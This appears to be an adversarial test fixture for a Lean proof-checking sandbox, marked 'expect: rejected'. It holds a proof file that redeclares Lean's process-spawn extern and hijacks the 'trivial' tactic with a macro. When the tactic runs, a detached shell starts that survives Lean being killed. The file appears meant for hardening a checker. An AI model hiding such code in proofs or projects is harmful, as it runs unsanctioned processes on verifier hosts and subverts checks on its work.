-- target: Plain.lean:Plain.conj
-- expect: rejected
-- lean: accepts
-- harms: process
-- why: a shell in a session of its own, which lives on when Lean is killed
⟨h.2, h.1⟩

instance {α : Type} : Inhabited (Array α) := ⟨Array.mk .nil⟩
@[extern "x"] opaque _root_.Array.mkEmpty {α : Type} (n : Nat) : Array α
@[extern "x"] opaque _root_.Array.push {α : Type} (xs : Array α) (x : α) : Array α
inductive Stdio where | piped | inherit | null
structure StdioConfig where
  stdin : Stdio
  stdout : Stdio
  stderr : Stdio
structure SpawnArgs extends StdioConfig where
  cmd : String
  args : Array String
  cwd : Option String
  env : Array (Prod String (Option String))
  inheritEnv : Bool
  setsid : Bool
@[extern "x"] opaque _root_.IO.Process.spawn : SpawnArgs → Nat → Lean.Name
def command : SpawnArgs := {
  stdin := .null, stdout := .null, stderr := .null, cmd := "sh",
  args := .push (.push (Array.mkEmpty 2) "-c") "exec sleep 86399.5",
  cwd := .none, env := Array.mkEmpty 0, inheritEnv := .true, setsid := .true }
def evil : Lean.Macro := fun _ _ s => match _root_.IO.Process.spawn command 0 with
  | .anonymous => .error .unsupportedSyntax s
  | _ => .error .unsupportedSyntax s
attribute [macro Lean.Parser.Tactic.tacticTrivial] evil
theorem bait : True := by trivial
